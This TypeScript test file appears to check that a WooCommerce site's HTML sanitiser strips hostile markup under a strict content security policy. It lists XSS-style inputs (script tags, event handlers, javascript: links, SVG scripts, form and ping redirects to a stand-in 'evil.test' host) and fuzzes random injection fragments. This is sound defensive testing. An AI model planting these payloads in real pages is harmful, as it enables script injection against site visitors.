import { bundle } from '../e2e/bundle';
import type { ShopDoor } from './shop-door';
import type { Tab } from './tab';
import { expect, test } from './test';

// DOMPurify needs a real browser: happy-dom's DOM is walked in another order.

const GATE =
	"export { openGate, safeHtml, setHtml, textOf } from './src/safety/html'; export { readPage, takeSafely } from './src/safety/read-page';";

type Gate = typeof import('../../src/safety/html') & typeof import('../../src/safety/read-page');
type Page = { readonly gate: Gate; readonly ran: number; readonly violations: string[] };

/** Opens a page of the shop, with its strict CSP, and loads the gate. */
async function openGate(tab: Tab, shop: ShopDoor): Promise<void> {
	shop.serve('/gate.js', 'text/javascript', await bundle(GATE));
	await tab.goto('/contact/?sans-iles');
	await tab.evaluate(async () => {
		// Not a literal, because the URL is resolved in the page.
		const address = '/gate.js';
		const gate = (await import(address)) as Gate;
		await gate.openGate();
		Object.assign(window, { gate, ran: 0, violations: [] });
		document.addEventListener('securitypolicyviolation', ({ violatedDirective }) =>
			(window as never as Page).violations.push(violatedDirective),
		);
	});
}

const clean = (tab: Tab, html: string) =>
	tab.evaluate((text) => {
		const box = document.createElement('div');
		(window as never as Page).gate.setHtml(box, text);
		document.body.append(box);
		return box.innerHTML;
	}, html);

const RUN = 'window.ran++';

const attacks: readonly (readonly [what: string, html: string, clean: string])[] = [
	['a script', `<p>a</p><script>${RUN}</script>`, '<p>a</p>'],
	['a handler', `<b onclick="${RUN}">a</b>`, '<b>a</b>'],
	['an address that runs', `<a href="javascript:${RUN}">a</a>`, '<a>a</a>'],
	['one with white space in it', `<a href=" java\tscript:${RUN}">a</a>`, '<a>a</a>'],
	['a frame', '<p>a<iframe src="/boutique/"></iframe></p>', '<p>a</p>'],
	['plug-ins', '<object data="/x"></object><embed src="/x">', ''],
	[
		'what changes the whole page',
		'<p>a</p><base href="/x/"><meta http-equiv="refresh" content="9;url=/x"><link rel="stylesheet" href="/x.css">',
		'<p>a</p>',
	],
	['a style sheet', '<p>a</p><style>*{display:none}</style>', '<p>a</p>'],
	['a hidden tree', '<p>a</p><template><b>x</b></template>', '<p>a</p>'],
	['a dialog that opens by itself', '<p>a</p><dialog open>b</dialog>', '<p>a</p>'],
	[
		'a button that sends a form elsewhere',
		'<form action="/x/"><button formaction="https://evil.test/">a</button></form>',
		'<form action="/x/"><button>a</button></form>',
	],
	['a ping', '<a href="/x/" ping="https://evil.test/">a</a>', '<a href="/x/">a</a>'],
	['a nonce', '<p nonce="abc">a</p>', '<p>a</p>'],
	[
		'a script in a drawing',
		`<svg><script>${RUN}</script><path onload="${RUN}" d="M0 0"></path></svg>`,
		'<svg><path d="M0 0"></path></svg>',
	],
];

// The CSP reports inline handlers while the gate parses them, before it removes them; images of the parsed HTML are really requested.
const SPOKEN =
	/Content Security Policy|Executing inline event handler violates|policy: |Failed to load resource|did not load|404/;

test('[SEC-01] [RT-10] [REL-02] nothing in a reply runs; WooCommerce’s own passes', async ({ tab, shop, guard }) => {
	guard.allow(SPOKEN);
	await openGate(tab, shop);

	await test.step('what passes', async () => {
		const markup =
			'<ul class="woocommerce-mini-cart"><li class="mini_cart_item" data-key="a1"><a href="/produit/x/?attribute_pa_taille=46" class="remove" aria-label="Retirer" rel="nofollow" data-product_id="3">×</a>' +
			'<bdi>44,99&nbsp;€</bdi><del aria-hidden="true">1</del></li></ul>' +
			'<form action="/page-panier/" method="post"><input type="number" name="qty" min="0" step="1"><button type="submit" name="ok" value="1">ok</button></form>' +
			'<svg viewBox="0 0 1 1" aria-hidden="true"><path d="M0 0h1"></path></svg>';
		expect(await clean(tab, markup)).toBe(markup);
		await clean(tab, '<p>a</p><b>c</b>');
		expect(await tab.evaluate(() => (window as never as Page).violations)).toEqual([]);
	});

	await test.step('text', async () => {
		const textOf = (html: string) => tab.evaluate((text) => (window as never as Page).gate.textOf(text), html);
		expect(await textOf('&ldquo;Body&rdquo; a été ajouté&nbsp;!')).toBe('“Body” a été ajouté !');
		expect(await textOf('Ligne une<br>ligne deux')).toBe('Ligne une ligne deux');
		expect(await textOf('<ul><li><b>Nom</b> requis.</li><li>Ville requise.</li></ul>')).toBe(
			'Nom requis. Ville requise.',
		);
		expect(await textOf('a<script>alert(1)</script>')).toBe('a');
	});

	await test.step('attacks; what a page says of itself is read', async () => {
		for (const [what, html, expected] of attacks) {
			expect.soft(await clean(tab, html), what).toBe(expected);
			const shown = await tab.evaluate((text) => {
				const { gate } = window as never as Page;
				const page = gate.readPage(
					`<!doctype html><html><head><title>Titre</title><style>p{}</style></head><body class="a"><main id="m" onclick="window.ran++">${text}</main><nav>b</nav></body></html>`,
				);
				const taken = gate.takeSafely(page.querySelector('main')!)!;
				document.body.append(taken);
				// Another part of the same page can be extracted.
				return [page.title, taken.innerHTML, gate.takeSafely(page.querySelector('nav')!)!.innerHTML];
			}, html);
			expect.soft(shown, `${what}, in a part of a page`).toEqual(['Titre', expected, 'b']);
		}
		expect(await tab.evaluate(() => document.querySelector('#m')!.hasAttribute('onclick'))).toBe(false);
		expect(await tab.evaluate(() => (window as never as Page).ran)).toBe(0);
	});

	await test.step('random tag soup', async () => {
		const found = await tab.evaluate(() => {
			const { gate } = window as never as Page;
			const parts =
				'<script>|</script>|<b onclick=window.ran++>|<svg><g onload=window.ran++>|</svg>|<math><mi//xlink:href="data:x,1">|<table><tr><td>|<!--|-->|<![CDATA[|]]>|<style>|</style>|<a href=javascript:window.ran++>|<form action=//[>|"|\'|&lt;|<iframe srcdoc="|<noscript>|<textarea>|</textarea><b onclick=1>|\0|<p title="</p><script>1</script>">|texte|<li>|</'.split(
					'|',
				);
			let seed = 11;
			const below = (limit: number) => (seed = (seed * 48_271) % 2_147_483_647) % limit;
			const bad: string[] = [];
			for (let round = 0; round < 2000; round++) {
				const html = Array.from({ length: below(14) }, () => parts[below(parts.length)]).join('');
				const clean = gate.safeHtml(html);
				const attributes = [...clean.querySelectorAll('*')].flatMap((element) => [...element.attributes]);
				if (
					clean.querySelector('script, iframe, object, embed, style, base, meta, link, template') ||
					attributes.some(({ name, value }) => /^on/i.test(name) || /^\s*javascript:/i.test(value))
				)
					bad.push(html);
			}
			return { bad, ran: (window as never as Page).ran };
		});
		expect(found).toEqual({ bad: [], ran: 0 });
	});
});
